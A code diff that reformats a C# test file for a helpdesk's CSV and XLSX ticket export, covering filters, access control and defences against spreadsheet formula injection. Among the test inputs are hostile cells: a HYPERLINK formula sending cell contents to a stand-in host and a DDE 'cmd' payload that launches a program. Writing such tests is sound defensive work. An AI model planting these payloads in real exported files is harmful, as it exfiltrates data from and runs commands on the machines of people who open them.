@@ -20,8 +20,22 @@ public sealed class ExportTests
 
     private static readonly string[] Columns =
     [
-        "Id", "Title", "Description", "Category", "Priority", "Status", "Sentiment", "Urgency", "Channel", "Created (UTC)", "Updated (UTC)", "Resolved (UTC)",
-        "Minutes to resolve", "Times reopened", "Version", "Assignee",
+        "Id",
+        "Title",
+        "Description",
+        "Category",
+        "Priority",
+        "Status",
+        "Sentiment",
+        "Urgency",
+        "Channel",
+        "Created (UTC)",
+        "Updated (UTC)",
+        "Resolved (UTC)",
+        "Minutes to resolve",
+        "Times reopened",
+        "Version",
+        "Assignee",
     ];
 
     private static CancellationToken Cancel => TestContext.Current.CancellationToken;
@@ -36,7 +50,18 @@ public sealed class ExportTests
             await db.Tickets.Where(t => t.Id % 3 == 0).ExecuteUpdateAsync(set => set.SetProperty(t => t.AssigneeId, agent.Id), Cancel);
         var site = new Site(feed.Desk);
         var stored = (await feed.Desk.TicketsAsync()).ToDictionary(t => t.Id);
-        string[] queries = ["", "?assignee=none&sort=status", $"?assignee={agent.Id}", "?status=open&sort=-urgency", "?search=ticket+1&category=technical&sort=priority", "?sentiment=angry&priority=high&sort=-status", "?sort=category", "?sort=created", "?search=nowhere"];
+        string[] queries =
+        [
+            "",
+            "?assignee=none&sort=status",
+            $"?assignee={agent.Id}",
+            "?status=open&sort=-urgency",
+            "?search=ticket+1&category=technical&sort=priority",
+            "?sentiment=angry&priority=high&sort=-status",
+            "?sort=category",
+            "?sort=created",
+            "?search=nowhere",
+        ];
         foreach (var query in queries)
         {
             var ids = new List<int>();
@@ -65,8 +90,14 @@ public sealed class ExportTests
         await desk.AddTicketAsync("Another");
         var page = await new Site(desk).GetAsync("/tickets?priority=high&search=f%C3%BC&sort=-urgency");
         Assert.Equal(["CSV", "XLSX"], page.Texts(".exports a"));
-        foreach (var (link, name, type) in ((string, string, string)[])
-            [(".exports a:first-of-type", "tickets-2026-11-23.csv", "text/csv; charset=utf-8"), (".exports a:last-of-type", "tickets-2026-11-23.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")])
+        foreach (
+            var (link, name, type) in ((string, string, string)[])
+                [
+                    (".exports a:first-of-type", "tickets-2026-11-23.csv", "text/csv; charset=utf-8"),
+                    (
+                        ".exports a:last-of-type", "tickets-2026-11-23.xlsx",
+                        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
+                ])
         {
             using var answer = await desk.Client.GetAsync(page.Href(link), Cancel);
             Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
@@ -78,7 +109,9 @@ public sealed class ExportTests
             var rows = name.EndsWith("csv", StringComparison.Ordinal) ? ExportFile.ReadCsv(file) : ExportFile.ReadXlsx(file)[0];
             Assert.Equal(["Füße, \"Größe\"; 名前"], rows.Skip(1).Select(row => row[1]));
             using var head = await desk.Client.SendAsync(new(HttpMethod.Head, page.Href(link)), Cancel);
-            Assert.Equal((HttpStatusCode.OK, $"attachment; filename={name}"), (head.StatusCode, head.Content.Headers.ContentDisposition!.ToString()));
+            Assert.Equal(
+                (HttpStatusCode.OK, $"attachment; filename={name}"),
+                (head.StatusCode, head.Content.Headers.ContentDisposition!.ToString()));
         }
     }
 
@@ -92,12 +125,19 @@ public sealed class ExportTests
             foreach (var query in (string[])["status=nope", "sort=title", "search=a%00"])
             {
                 using var answer = await viewer.GetAsync($"/tickets/export.{format}?{query}", Cancel);
-                Assert.Equal((query, HttpStatusCode.BadRequest, "text/html"), (query, answer.StatusCode, answer.Content.Headers.ContentType!.MediaType));
+                Assert.Equal(
+                    (query, HttpStatusCode.BadRequest, "text/html"),
+                    (query, answer.StatusCode, answer.Content.Headers.ContentType!.MediaType));
                 Assert.Null(answer.Content.Headers.ContentDisposition);
             }
-            Assert.Contains("There is no status “nope”", WebUtility.HtmlDecode(await (await viewer.GetAsync($"/tickets/export.{format}?status=nope", Cancel)).Content.ReadAsStringAsync(Cancel)));
+            Assert.Contains(
+                "There is no status “nope”",
+                WebUtility.HtmlDecode(
+                    await (await viewer.GetAsync($"/tickets/export.{format}?status=nope", Cancel)).Content.ReadAsStringAsync(Cancel)));
             using var stranger = await desk.NewClient().GetAsync($"/tickets/export.{format}", Cancel);
-            Assert.Equal((HttpStatusCode.Redirect, true), (stranger.StatusCode, stranger.Headers.Location!.ToString().StartsWith("/sign-in", StringComparison.Ordinal)));
+            Assert.Equal(
+                (HttpStatusCode.Redirect, true),
+                (stranger.StatusCode, stranger.Headers.Location!.ToString().StartsWith("/sign-in", StringComparison.Ordinal)));
         }
     }
 
@@ -107,10 +147,29 @@ public sealed class ExportTests
         await using var desk = await Desk.StartAsync(Provider.Sqlite);
         (string Text, string Csv)[] cases =
         [
-            ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(1)", "'@SUM(1)"), ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠a", "'＠a"), ("−1", "'−1"),
-            ("=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")", "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")"), ("\"=1", "'\"=1"), ("'=1", "''=1"),
-            ("a,=1", "a,'=1"), ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"), ("a\t+1", "a\t'+1"), ("a; \"@x", "a;' \"@x"), ("one\n=two", "one\n'=two"), ("one\r=two", "one\r'=two"),
-            ("1+1=2 a-b a@b.example", "1+1=2 a-b a@b.example"), ("plain", "plain"), ("_x003D_1+1", "_x003D_1+1"), ("a\u0001b\u0008\uFFFF", "a\u0001b\u0008\uFFFF"), ("😀 tail", "😀 tail"),
+            ("=1+1", "'=1+1"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@SUM(1)", "'@SUM(1)"),
+            ("＝1", "'＝1"),
+            ("＋1", "'＋1"),
+            ("－1", "'－1"),
+            ("＠a", "'＠a"),
+            ("−1", "'−1"),
+            ("=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")", "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")"),
+            ("\"=1", "'\"=1"),
+            ("'=1", "''=1"),
+            ("a,=1", "a,'=1"),
+            ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
+            ("a\t+1", "a\t'+1"),
+            ("a; \"@x", "a;' \"@x"),
+            ("one\n=two", "one\n'=two"),
+            ("one\r=two", "one\r'=two"),
+            ("1+1=2 a-b a@b.example", "1+1=2 a-b a@b.example"),
+            ("plain", "plain"),
+            ("_x003D_1+1", "_x003D_1+1"),
+            ("a\u0001b\u0008\uFFFF", "a\u0001b\u0008\uFFFF"),
+            ("😀 tail", "😀 tail"),
         ];
         foreach (var (text, _) in cases) await desk.AddTicketAsync(text, text);
         var csv = ExportFile.ReadCsv(await FileAsync(desk, "/tickets/export.csv?sort=created"));
@@ -118,7 +177,9 @@ public sealed class ExportTests
         Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[2]));
 
         var xlsx = await FileAsync(desk, "/tickets/export.xlsx?sort=created");
-        Assert.Equal(cases.Select(c => c.Text.Replace('\u0001', '\uFFFD').Replace('\u0008', '\uFFFD').Replace('\uFFFF', '\uFFFD')), ExportFile.ReadXlsx(xlsx)[0].Skip(1).Select(row => row[1]));
+        Assert.Equal(
+            cases.Select(c => c.Text.Replace('\u0001', '\uFFFD').Replace('\u0008', '\uFFFD').Replace('\uFFFF', '\uFFFD')),
+            ExportFile.ReadXlsx(xlsx)[0].Skip(1).Select(row => row[1]));
         var cells = ExportFile.Cells(xlsx);
         Assert.DoesNotContain(cells, cell => cell.Cell.CellFormula is not null);
         // Typed as text, and in the text format, so that it stays one when somebody edits it.
@@ -194,7 +255,8 @@ public sealed class ExportTests
     [InlineData("\r\nx", "'\r\nx")]
     [InlineData("", "")]
     [InlineData("a,b;c", "a,b;c")]
-    public void A_cell_that_begins_with_a_tab_or_a_line_break_is_harmless_too(string text, string csv) => Assert.Equal(csv, CsvFile.Harmless(text));
+    public void A_cell_that_begins_with_a_tab_or_a_line_break_is_harmless_too(string text, string csv) =>
+        Assert.Equal(csv, CsvFile.Harmless(text));
 
     [Fact]
     public async Task A_sheet_that_is_full_goes_on_on_another_and_a_longer_text_than_a_cell_holds_ends_in_an_ellipsis()
@@ -203,7 +265,14 @@ public sealed class ExportTests
         await using (var file = new XlsxFile(stream, maxRows: 3))
         {
             await file.StartAsync(Cancel);
-            foreach (var text in (string[])["one", new string('x', XlsxFile.MaxText), new string('x', XlsxFile.MaxText + 1), new string('x', XlsxFile.MaxText - 2) + "😀😀"])
+            foreach (
+                var text in (string[])
+                    [
+                        "one",
+                        new string('x', XlsxFile.MaxText),
+                        new string('x', XlsxFile.MaxText + 1),
+                        new string('x', XlsxFile.MaxText - 2) + "😀😀",
+                    ])
             {
                 file.Text(text);
                 await file.EndRowAsync(Cancel);
@@ -214,7 +283,9 @@ public sealed class ExportTests
         Assert.Equal([3, 3], sheets.Select(sheet => sheet.Count));
         Assert.Equal(Columns, sheets[1][0]);
         Assert.Equal(["one", new string('x', XlsxFile.MaxText)], sheets[0].Skip(1).Select(row => row[0]));
-        Assert.Equal([new string('x', XlsxFile.MaxText - 1) + "…", new string('x', XlsxFile.MaxText - 2) + "…"], sheets[1].Skip(1).Select(row => row[0]));
+        Assert.Equal(
+            [new string('x', XlsxFile.MaxText - 1) + "…", new string('x', XlsxFile.MaxText - 2) + "…"],
+            sheets[1].Skip(1).Select(row => row[0]));
     }
 
     [Fact]
@@ -271,10 +342,24 @@ public sealed class ExportTests
 
     private static string Joined(string[] cells) => string.Join('|', cells);
 
-    private static string Row(Ticket t) => Joined(
-    [
-        $"{t.Id}", t.Title, t.Description, $"{t.Category}", $"{t.Priority}", $"{t.Status}", $"{t.Sentiment}", $"{t.UrgencyScore}", $"{t.Channel}",
-        Time(t.CreatedAt), Time(t.UpdatedAt), Time(t.ResolvedAt), $"{t.ResolutionMinutes}", $"{t.ReopenCount}", $"{t.Version}", t.AssigneeId is null ? "" : Agent,
+    private static string Row(Ticket t) =>
+        Joined([
+            $"{t.Id}",
+            t.Title,
+            t.Description,
+            $"{t.Category}",
+            $"{t.Priority}",
+            $"{t.Status}",
+            $"{t.Sentiment}",
+            $"{t.UrgencyScore}",
+            $"{t.Channel}",
+            Time(t.CreatedAt),
+            Time(t.UpdatedAt),
+            Time(t.ResolvedAt),
+            $"{t.ResolutionMinutes}",
+            $"{t.ReopenCount}",
+            $"{t.Version}",
+            t.AssigneeId is null ? "" : Agent,
     ]);
 
     private static string Time(DateTime? time) => time?.ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture) ?? "";
